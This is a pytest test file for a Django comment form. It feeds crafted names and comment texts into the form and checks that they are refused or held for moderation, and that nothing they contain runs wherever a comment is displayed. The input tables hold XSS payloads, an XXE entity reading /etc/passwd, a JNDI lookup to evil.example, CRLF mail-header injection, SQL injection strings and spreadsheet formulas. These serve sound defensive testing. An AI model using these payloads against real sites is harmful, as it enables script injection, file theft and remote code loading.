"""Names and texts that were made to do harm, by the numbers of the list that test_bad_inputs_list.py keeps whole.

Each is posted as a browser would post it. What is refused comes back with its text and stores nothing; what is taken
waits for a person, and once approved it harms none of the places that show it: pages, feeds, JSON, mail, export, admin.
"""

import json
import re
from html.parser import HTMLParser
from io import StringIO
from time import process_time
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.urls import reverse
from django.utils.html import escape

from comments.models import Comment, Word
from comments.moderation import decisions
from comments.reading import thread_pages
from comments.tests.factories import comment_url, make_comment, sent
from publishing.tests.factories import make_article, make_user
from publishing.web.refusals import UNREAD

pytestmark = pytest.mark.django_db
FAMILY = "👨‍👩‍👧‍👦"

# The number, what is given, and the answer: words of the refusal, or None for a comment that waits; with the rule that
# holds it among the suspect ones.
NAMES = [
    (1, "", "Enter your name", None),
    (2, "   ", "Enter your name", None),
    (3, "\u00a0", "Enter your name", None),
    (4, "\u200b", "Enter at least one letter", None),
    (5, "\ufeff", "Enter at least one letter", None),
    (6, "\u3164", "Enter at least one letter", None),
    (7, "\u2800", "Enter at least one letter", None),
    (8, "\u115f", "Enter at least one letter", None),
    (9, "\u202enimda", "changes the text direction", None),
    (10, "Ann\u2066", "changes the text direction", None),
    (11, "Mоderator", None, "staff-name"),
    (12, "Ｅｄｉｔｏｒ", None, "staff-name"),
    (13, "ZOË KLEIN", None, "staff-name"),
    (14, "Zoë Klein\u200d", "hidden character", None),
    (15, "Zoe\u0308 Klein", None, "staff-name"),
    (16, "Z" + "\u0301" * 199, "too many accents", None),
    (17, "x" * 51, "at most 50", None),
    (17, FAMILY * 50, "at most 50", None),
    (18, '"><svg onload=alert(1)>', None, None),
    (19, "' onmouseover='x", None, None),
    (20, "{{7*7}}{% debug %}", None, None),
    (21, "Ann\r\nBcc: all@mail.example", "one line", None),
    (22, "Ann\u2028Lee", "one line", None),
    (23, "Ann\0", "cannot be stored", None),
    (24, "Ann\x1b[2J", "cannot be stored", None),
    (25, '=HYPERLINK("//x")', None, None),
    (25, "+1", None, None),
    (25, "@SUM(1)", None, None),
    (26, "https://spam.example", None, "link-in-name"),
    (27, "Anonymous", None, "staff-name"),
    (27, "[deleted]", None, "staff-name"),
    (27, "Moderator", None, "staff-name"),
]
HEADS = ["<script>alert(1)</script>", "<ScRiPt/x>alert(1)", "</textarea><script>alert(1)</script>", "</title><b>"]
BODIES = [
    (30, "", "Enter your comment", None),
    (30, "\r\n\r\n", "Enter your comment", None),
    (30, "\u200b", "Enter at least one letter", None),
    (31, "x" * 4000, None, None),
    (31, "x" * 4001, "remove at least 1", None),
    (32, "\r\n".join(["x" * 39] * 99 + ["x" * 40]), None, None),
    (33, "one\rtwo", None, None),
    (34, "😀" * 4000, None, None),
    (35, "ﷺ" * 4000, None, None),
    *((38, text, None, None) for text in HEADS),
    (39, "<img src=x onerror=alert(1)>", None, None),
    (40, "<svg><style><img src=x onerror=alert(1)>", None, None),
    (40, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", None, None),
    (41, "java\tscript:alert(1) java\nscript:alert(1) &#106;avascript:alert(1) JaVaScRiPt:alert(1)", None, None),
    (42, "data:text/html,<script>alert(1)</script> vbscript:x", None, None),
    (43, "//evil.example /\\evil.example https:evil.example", None, None),
    (44, "http://bank.example@evil.example/", None, None),
    (45, "[https://bank.example](https://evil.example)", None, "links"),
    (46, "https://аррӏе.example/", None, None),
    (47, "https://evil.example/\u202egpj.exe", "changes the text direction", None),
    (48, "http://[::1]/ http://0177.0.0.1/", None, None),
    (49, "https://a.example " * 220, None, "links"),
    (50, "W" * 4000, None, None),
    (51, "\n" * 4000, "Enter your comment", None),
    (51, "a" + "\n" * 3998 + "b", None, None),
    *((52, "." + (sign * 4000)[:3998] + ".", None, None) for sign in ("[", ">", "*", "`", "- ")),
    (53, "".join("  " * depth + "- > x\n" for depth in range(60)), None, None),
    (54, "".join(f"[{number}]: x\n" for number in range(300)), None, None),
    (55, "![pixel](https://evil.example/p.png)", None, None),
    (56, '<!-- --><![CDATA[x]]><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>&f;', None, None),
    (57, "]]>", None, None),
    (58, "a\x0bb", "cannot be stored", None),
    (58, "a\x01b", "cannot be stored", None),
    (59, "a\ufffeb\uffff", "cannot be stored", None),
    (60, "\u202b\u202b\u2067 אבג text", "changes the text direction", None),
    (61, "Z" + "\u0335" * 40, "too many accents", None),
    (62, "\\N \\. '' \" \\\\", None, None),
    (63, "100 % of _names_", None, None),
    (64, "${jndi:ldap://evil.example} %(name)s {0.__class__} %s%n", None, None),
    (65, "Write to ann@mail.example or +43 1 0000000", None, None),
    (66, "Cheap via\u200bgra", "rejected", "banned-word"),
    (66, "Cheap v\u00adiagra", "rejected", "banned-word"),
    (66, "Cheap v.i.a.g.r.a", "rejected", "banned-word"),
    (66, "Cheap vi<b></b>agra", "rejected", "banned-word"),
    (66, "Cheap v1agr@", "rejected", "banned-word"),
    (66, "Cheap ＶＩＡＧＲＡ", "rejected", "banned-word"),
    (66, "Cheap via\u0301gra", "rejected", "banned-word"),
    (66, "STRAẞE İZMİR", "rejected", "banned-word"),
    (67, "A viagraphy of Izmirians in the Strassenbahn", None, None),
    (68, "w" * 4000, None, None),
    (68, "w.w " * 1000, None, None),
]


def numbered(table):
    ids = [f"{number}-{index}" for index, (number, *_) in enumerate(table)]
    return pytest.mark.parametrize(("given", "refusal", "rule"), [row[1:] for row in table], ids=ids)


@pytest.fixture
def article():
    return make_article(slug="one", title="One\N{HORIZONTAL ELLIPSIS}")


@pytest.fixture(autouse=True)
def rules():
    User.objects.create_user("zoe", first_name="Zoë", last_name="Klein", is_staff=True)
    for word in ("viagra", "straße", "izmir"):
        Word.objects.create(text=word, severity="banned")


@numbered(NAMES)
def test_a_name(client, post_from_site, article, given, refusal, rule):
    body = "The text is kept & safe."
    response = post_from_site(comment_url(article), sent(name=given, body=body))

    answered(client, article, response, given, refusal, rule, field="name", kept="The text is kept &amp; safe.")


@numbered(BODIES)
def test_a_text(client, post_from_site, article, given, refusal, rule):
    started = process_time()
    response = post_from_site(comment_url(article), sent(name="Ada & Co", body=given))

    assert process_time() - started < 2
    answered(client, article, response, given, refusal, rule, field="body", kept="Ada &amp; Co")


def answered(client, article, response, given, refusal, rule, *, field, kept):
    """Refused with the rest kept, or stored unseen, and harmless wherever it is shown."""
    if refusal and refusal != "rejected":
        assert response.status_code == 422
        assert refusal in response.context["comment_form"].errors[field][0]
        assert kept in response.content.decode()
        # What was typed into the field at fault is there to be mended, too.
        assert response.context["comment_form"][field].value() == given
        assert escape(given.strip()) in response.content.decode()
        assert not Comment.objects.exists()
        return
    assert response.status_code == 303
    comment = Comment.objects.get()
    assert comment.status == (refusal or "pending")
    assert [hold["rule"] for hold in comment.holds][:1] == ([rule] if rule else [])
    assert comment.is_suspect == bool(rule)
    assert f'id="{comment.anchor}"' not in client.get(article.get_absolute_url()).content.decode()
    decisions.approve(comment, make_user("moderator"))
    shown_everywhere(client, comment, response.url)


class Harm(HTMLParser):
    """Collects what in a page could act: attributes that hold code, addresses that run, and elements of a payload."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            address = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            runs = name in ("href", "src", "action", "formaction") and address.startswith(
                ("javascript:", "data:", "vbscript:")
            )
            if name.startswith("on") or runs or (name == "src" and "evil" in address):
                self.found.append((tag, name, value))
        if tag in ("math", "mglyph", "mtext", "iframe", "object"):
            self.found.append((tag, "", ""))


def assert_harmless(html):
    page = Harm()
    page.feed(html)
    assert page.found == []
    assert "alert(1)</script>" not in html and "49" not in re.findall(r"<bdi>(.*?)</bdi>", html)


def shown_everywhere(client, comment, receipt):
    """Every place that shows the comment is well-formed, and nothing in it acts."""
    article = comment.article
    reply = make_comment(article, status="approved", parent=comment)
    client.force_login(make_user("owner"))
    pages = [
        article.get_absolute_url(), receipt, reverse("comments:report", args=[comment.pk]),
        thread_pages.thread_url(article, under=comment.pk), f"{comment_url(article)}?reply={comment.pk}",
        reverse("admin:comments_comment_changelist") + "?queue=approved",
        reverse("admin:comments_comment_change", args=[comment.pk]),
        reverse("admin:comments_comment_change", args=[reply.pk]),
        reverse("admin:comments_moderationentry_changelist"),
    ]  # fmt: skip
    for address in pages:
        response = client.get(address, follow=True)
        assert response.status_code == 200, address
        assert_harmless(response.content.decode())
    for name, args in (("thread-feed", [article.slug]), ("feed", [])):
        feed = ElementTree.fromstring(client.get(reverse(f"comments:{name}", args=args)).content)
        assert any(comment.get_absolute_url() in "".join(item.itertext()) for item in feed.iter())
    said = json.loads(client.get(reverse("comments:thread-json", args=[article.slug])).content)
    assert str(comment.pk) in json.dumps(said)
    out = StringIO()
    call_command("export_comments", stdout=out)
    exported = [json.loads(line) for line in out.getvalue().split("\n")[1:-1]]
    assert (exported[0]["name"], exported[0]["body"]) == (comment.name, comment.body)


def test_a_name_sent_twice_is_the_last_one(post_from_site, article):
    """28"""
    post_from_site(comment_url(article), sent(name=["Ann", "Bo"]))

    assert Comment.objects.get().name == "Bo"


@pytest.mark.parametrize("field", ["name", "body"])
def test_ten_megabytes_are_refused_with_a_page_and_stored_nowhere(client, article, field):
    """29"""
    body = "&".join(f"{name}={value}" for name, value in sent(**{field: "x" * 10_000_000}).items())

    response = client.post(
        comment_url(article), body, "application/x-www-form-urlencoded", headers={"sec-fetch-site": "same-origin"}
    )

    assert response.status_code == 413
    assert str(UNREAD) in response.content.decode()
    assert not Comment.objects.exists()


@pytest.mark.parametrize("body", [b'{"name": "Ann", "body": "\\ud800"}', b'{"name": "\\ud800"}', b"[", b"\xff"])
def test_a_lone_surrogate_in_json_is_an_empty_form(client, article, body):
    """36"""
    response = client.generic(
        "POST", comment_url(article), body, "application/json", headers={"sec-fetch-site": "same-origin"}
    )

    assert response.status_code == 422
    assert not Comment.objects.exists()


@pytest.mark.parametrize(
    ("body", "charset", "status"),
    [
        (b"homepage=&name=A&body=%ED%A0%80", "", 422),
        (b"homepage=&name=A&body=%FF%FE", "", 422),
        (b"homepage=&name=\xff&body=Text", "", 303),
        (b"homepage=&name=%FF&body=Text", "", 422),
        ("homepage=&name=A&body=B".encode("utf-16"), "; charset=utf-16", 400),
        (b"homepage=&name=A&body=B", "; charset=klingon", 303),
    ],
)
def test_bytes_that_are_no_utf_8(client, article, body, charset, status):
    """37: what can be read some way waits for a person, who sees how; a name must be readable throughout."""
    response = client.generic(
        "POST", comment_url(article), body, f"application/x-www-form-urlencoded{charset}",
        headers={"sec-fetch-site": "same-origin"},
    )  # fmt: skip

    assert response.status_code == status
    assert Comment.objects.count() == (status == 303)


def links(text):
    from publishing.text.markdown import render_reader_text

    return re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', render_reader_text(text))


def test_a_link_shows_where_it_leads():
    """43 to 48: the text of a link is its address, so nobody is led where they did not read."""
    assert links("//evil.example /\\evil.example https:evil.example") == []
    for text in ("http://bank.example@evil.example/", "[https://bank.example](https://evil.example)",
                 "http://[::1]/ http://0177.0.0.1/ http://2130706433/"):  # fmt: skip
        for address, shown in links(text):
            assert address == shown
    for address, _ in links("https://аррӏе.example/"):
        assert address.isascii()


def test_wildcards_in_a_search_of_the_queues_are_letters(client):
    """63"""
    sought = make_comment(body="100 % of _names_")
    make_comment(body="1000 names")
    client.force_login(make_user("owner"))

    for words in ("100 %", "_names_", "%", "' OR 1=1 --", "\\", "%' --"):
        response = client.get(reverse("admin:comments_comment_changelist"), {"q": words})
        assert response.status_code == 200, words
        html = response.content.decode()
        assert "1000 names" not in html, words
        assert (sought.body in html) == (words in sought.body), words
